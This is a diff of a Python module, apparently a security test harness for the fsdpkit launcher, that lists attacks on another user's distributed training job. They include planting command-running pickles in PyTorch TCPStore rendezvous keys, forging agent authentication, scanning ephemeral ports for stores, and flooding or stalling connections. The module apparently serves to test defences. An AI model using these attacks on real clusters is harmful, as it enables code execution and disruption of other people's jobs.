@@ -1,30 +1,32 @@
-"""What somebody can do who reaches the port of another user's store: one function each.
+"""What somebody can do who reaches the ports of another user's job: one function each.
 
-Every attack takes the store's host and port, and some a word more; it returns what it did. Nothing
-here knows the run's secret, or any file of it: only what the network gives away.
+Every attack takes a host and port, and some a word more; it returns what it did. Nothing here knows
+the run's secret, or any file of it: only this package, and what the network gives away.
 """
 
 from __future__ import annotations
 
 import base64
 import contextlib
-import json
 import os
 import pickle
 import resource
 import socket
-from collections import deque
 from collections.abc import Callable, Iterator
 from datetime import timedelta
 from functools import cache
 from typing import Any
 
+import msgspec
+
+from fsdpkit.launching.board import Answer, Letter, Order, Said
+from fsdpkit.launching.policy import Report
+from fsdpkit.launching.signing import GREETING_BYTES, Claim, Frames, Keys
+
 TIMEOUT_S = 3
 FLOOD_KEYS, FLOOD_VALUE = 2000, b"x" * 50_000
-WORDS = ((b'"run"', b'"end"'), (b'"failed"', b'"done"'), (b'"launch":0', b'"launch":1'))
-"""What to change in a message into what."""
-_seen: deque[dict[str, bytes]] = deque(maxlen=4)
-"""What stores have held when an attack looked, those of earlier runs among them."""
+HELLO = bytes([0]) + (0x3C85F7CE).to_bytes(4, "little")  # torch's own, checked first
+EPHEMERAL = (32768, 61000)
 _held: list[socket.socket] = []
 """Connections that stay open until `let_go`."""
 
@@ -45,14 +47,7 @@ def contents(host: str, port: int) -> dict[str, bytes]:
     for key in store.list_keys():
         with contextlib.suppress(RuntimeError):  # deleted in the meantime
             found[key] = bytes(store.get(key))
-    _seen.append(found)
     return found
-
-
-def look(host: str, port: int) -> Any:
-    return {
-        key: value[:200].decode(errors="replace") for key, value in contents(host, port).items()
-    }
 
 
 # Code in what torch's rendezvous reads
@@ -67,13 +62,15 @@ class _Planted:
 
 
 def plant_pickle(host: str, port: int, marker: str) -> int:
-    """Whoever loads one runs a command; in every form in which the rendezvous's state may lie."""
+    """Whoever loads one runs a command: in place of every value, and where c10d has its state."""
     store, code = connect(host, port), pickle.dumps(_Planted(marker))
     planted = 0
     for key, value in contents(host, port).items():
-        if (form := _with_pickle(value, code)) is not None or "rendezvous" in key:
-            store.set(key, form or base64.b64encode(code))
-            planted += 1
+        store.set(key, _with_pickle(value, code) or code)
+        planted += 1
+    for key in ("torch.rendezvous", "rdzv/torch.rendezvous.1_0", "torch.rendezvous.1_0_0"):
+        store.set(key, base64.b64encode(code))
+        planted += 1
     return planted
 
 
@@ -87,111 +84,69 @@ def _with_pickle(value: bytes, code: bytes) -> bytes | None:
     return None
 
 
-# Forged and replayed messages of fsdpkit's agents
+# At the agents' door, in their own language
 
 
-def forge_end(host: str, port: int) -> int:
-    """Order all agents to end, as if the training were done."""
-    return _order(host, port, {"do": "end", "status": 0})
+def forge(host: str, port: int) -> int:
+    """Claims to be an agent by whoever has the package and not the secret; orders and reports that
+    follow at once, as if it had been granted. How many got an answer."""
+    end = msgspec.msgpack.encode(Answer(0, (Order(do="end", status=0),)))
+    done = msgspec.msgpack.encode(Letter(0, (Said(1, Report(0, 1, "node2", "done")),), left=True))
+    answered = 0
+    for secret in (bytes(32), b"\xff" * 32, os.urandom(32)):
+        for attempt in ("", "1_0", "none"):
+            for node in (0, 1, 2, 99):
+                keys = Keys(secret, attempt)
+                with _open(host, port) as connection:
+                    greeting = connection.recv(GREETING_BYTES, socket.MSG_WAITALL)
+                    claim = Claim(keys, node, greeting)
+                    frames = Frames(sending=keys.sign(b"up"), receiving=keys.sign(b"down"))
+                    said = claim.claim + frames.seal(end) + frames.seal(done)
+                    answered += _answers(connection, said)
+    return answered
 
 
-def forge_orders(host: str, port: int) -> int:
-    """Orders that start, stop and confuse."""
-    orders: list[Any] = [
-        {"do": "stop"},
-        {"do": "run", "launch": 7, "nodes": [1]},
-        {"do": "run", "launch": -1, "nodes": []},
-        {"do": "end", "status": 9, "because": "crash", "message": "you are hacked"},
-        {"do": "dance"},
-        [],
-        "\x00",
-    ]
-    return sum(_order(host, port, order) for order in orders)
+def echo(host: str, port: int) -> int:
+    """The head's own words back to it, and one connection's to another."""
+    answered = 0
+    for _ in range(10):
+        with _open(host, port) as one, _open(host, port) as other:
+            greetings = [c.recv(GREETING_BYTES, socket.MSG_WAITALL) for c in (one, other)]
+            answered += _answers(one, greetings[1] + bytes(100))
+            answered += _answers(other, greetings[0] * 3)
+    return answered
 
 
-def _order(host: str, port: int, order: Any) -> int:
-    store = connect(host, port)
-    number = store.add("fsdpkit/published", 1)
-    store.set(f"fsdpkit/order/{number}", json.dumps(order))
-    store.add("fsdpkit/orders", 1)
+def _answers(connection: socket.socket, said: bytes) -> bool:
+    with contextlib.suppress(OSError):
+        connection.sendall(said)
+        return bool(connection.recv(1))
+    return False
+
+
+def speak_torch(host: str, port: int) -> int:
+    """As a client of a TCPStore."""
+    try:
+        connect(host, port)
+    except Exception:
+        return 0
     return 1
 
 
-def forge_reports(host: str, port: int) -> int:
-    """Reports that all ranks are done, that they failed, and that are no reports."""
-    store, told = connect(host, port), 0
-    for launch in range(3):
-        for node in range(3):
-            for outcome in ("done", "failed"):
-                report = {"launch": launch, "node": node, "name": "node1", "outcome": outcome}
-                store.append("fsdpkit/reports", json.dumps(report) + "\n")
-                told += 1
-    return told
+# In a store
 
 
-def forge_nonsense(host: str, port: int) -> int:
-    """Lines that are no reports, among them."""
-    store = connect(host, port)
-    lines = ("{}\n", "\n", "\xff\n", '{"launch": 1e999}\n', "[" * 5000 + "\n", "no end of line")
-    for line in lines:
-        store.append("fsdpkit/reports", line)
-    return len(lines)
-
-
-def forge_counters(host: str, port: int) -> int:
-    """Orders that are announced and do not exist, and nodes that seem alive."""
-    store, changed = connect(host, port), 0
-    for key, value in contents(host, port).items():
-        if value.strip().isdigit():
-            store.add(key, 1000)
-            changed += 1
-    return changed
-
-
-def replay(host: str, port: int) -> int:
-    """All that stores held earlier once more, and each numbered message, as it was and with a word
-    changed, under later numbers."""
-    store, sent = connect(host, port), 0
-    now = contents(host, port)
-    for key, value in [message for earlier in _seen for message in earlier.items()]:
-        name, _, number = key.rpartition("/")
-        if value.strip().isdigit() or not value:
-            continue
-        if not number.isdigit():
-            store.append(key, value)
-            sent += 1
-            continue
-        for later, pair in enumerate(((b"", b""), *WORDS), start=1):
-            if (new := f"{name}/{int(number) + later}") not in now:
-                store.set(new, value.replace(*pair))
-                sent += 1
-    for key, value in now.items():
-        if value.strip().isdigit():
-            store.add(key, 1)
-    return sent
-
-
-def mutate(host: str, port: int) -> int:
-    """Each message as it is but for one thing: a word, a bit, its end, its place."""
-    store, sent = connect(host, port), 0
-    messages = {k: v for k, v in contents(host, port).items() if not v.strip().isdigit() and v}
-    for key, value in messages.items():
-        middle = len(value) // 2
-        flipped = value[:middle] + bytes([value[middle] ^ 1]) + value[middle + 1 :]
-        forms = [value.replace(*pair) for pair in WORDS] + [flipped, value[:middle], value * 2]
-        for form in forms:
-            store.set(key, form)
-            sent += 1
-    return sent
-
-
-def exchange(host: str, port: int) -> int:
-    """Every message in another's place: a report as an order, one node's as another's."""
-    store = connect(host, port)
-    found = [(k, v) for k, v in contents(host, port).items() if not v.strip().isdigit()]
-    for (key, _), (_, value) in zip(found, found[1:] + found[:1], strict=True):
-        store.set(key, value)
-    return len(found)
+def find_stores(host: str, port: int) -> list[int]:
+    """Ports of this host where a TCPStore answers, but for the one that is known already."""
+    found = []
+    for number in range(*EPHEMERAL):
+        with contextlib.suppress(OSError), socket.socket() as probe:
+            probe.settimeout(TIMEOUT_S)
+            if number != port and probe.connect_ex((host, number)) == 0:
+                probe.sendall(HELLO + bytes([13]) + (7).to_bytes(4, "little"))  # a ping
+                if probe.recv(4) == (7).to_bytes(4, "little"):
+                    found.append(number)
+    return found
 
 
 # Force
@@ -248,11 +203,10 @@ def slow(host: str, port: int) -> int:
 
 
 def _half_requests() -> Iterator[bytes]:
-    hello = bytes([0]) + (0x3C85F7CE).to_bytes(4, "little")  # torch's own, checked first
-    yield hello[:3]
+    yield HELLO[:3]
     for request in range(1, 16):
-        yield hello + bytes([request])
-        yield hello + bytes([request]) + (2**63 - 1).to_bytes(8, "little") + b"key"
+        yield HELLO + bytes([request])
+        yield HELLO + bytes([request]) + (2**63 - 1).to_bytes(8, "little") + b"key"
 
 
 def noise(host: str, port: int) -> int:
@@ -281,11 +235,15 @@ def reaches(host: str, port: int) -> bool:
     return False
 
 
+def listens(host: str, port: int) -> int:
+    """How many ports of this host take a connection, `port` among them."""
+    return sum(reaches(host, number) for number in (port, *range(*EPHEMERAL)))
+
+
 ATTACKS: dict[str, Callable[..., Any]] = {
     attack.__name__: attack
     for attack in (
-        *(look, plant_pickle, forge_end, forge_orders, forge_reports, forge_nonsense),
-        *(forge_counters, replay, mutate, exchange, delete, overwrite, flood),
-        *(idle, slow, noise, let_go, reaches),
+        *(forge, echo, speak_torch, noise, slow, idle, let_go, reaches, listens),
+        *(find_stores, plant_pickle, delete, overwrite, flood),
     )
 }
